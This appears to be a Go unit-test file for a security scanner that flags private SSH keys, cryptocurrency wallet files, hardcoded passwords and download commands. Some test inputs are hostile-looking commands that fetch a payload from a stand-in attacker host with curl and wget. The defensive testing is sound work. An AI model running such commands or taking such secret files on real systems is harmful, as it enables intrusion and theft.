package interest

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestScanNameFlagsPrivateKey(t *testing.T) {
	s := NewSecurityScanner()
	findings := s.ScanName("id_rsa")
	assert.Len(t, findings, 1)
	assert.Equal(t, "private SSH key", findings[0].Description)
}

func TestScanNameIsCaseInsensitive(t *testing.T) {
	s := NewSecurityScanner()
	findings := s.ScanName("ID_RSA")
	assert.Len(t, findings, 1)
}

func TestScanNameIgnoresOrdinaryFiles(t *testing.T) {
	s := NewSecurityScanner()
	assert.Empty(t, s.ScanName("main.go"))
}

func TestScanContentFlagsHardcodedPassword(t *testing.T) {
	s := NewSecurityScanner()
	findings := s.ScanContent([]byte(`password = "hunter2"`))
	assert.Len(t, findings, 1)
	assert.Equal(t, "hardcoded password", findings[0].Description)
}

func TestScanContentFlagsMultiplePatterns(t *testing.T) {
	s := NewSecurityScanner()
	content := []byte("password = \"x\"\ncurl http://evil.example/payload\n")
	findings := s.ScanContent(content)
	assert.GreaterOrEqual(t, len(findings), 2)
}

func TestScanOrdersMostSevereFirst(t *testing.T) {
	s := NewSecurityScanner()
	findings := s.Scan("wallet.dat", []byte("wget http://evil.example/payload"))
	if assert.NotEmpty(t, findings) {
		assert.Equal(t, "cryptocurrency wallet file", findings[0].Description)
	}
}

func TestScanEmptyContentReturnsNil(t *testing.T) {
	s := NewSecurityScanner()
	assert.Nil(t, s.ScanContent(nil))
}
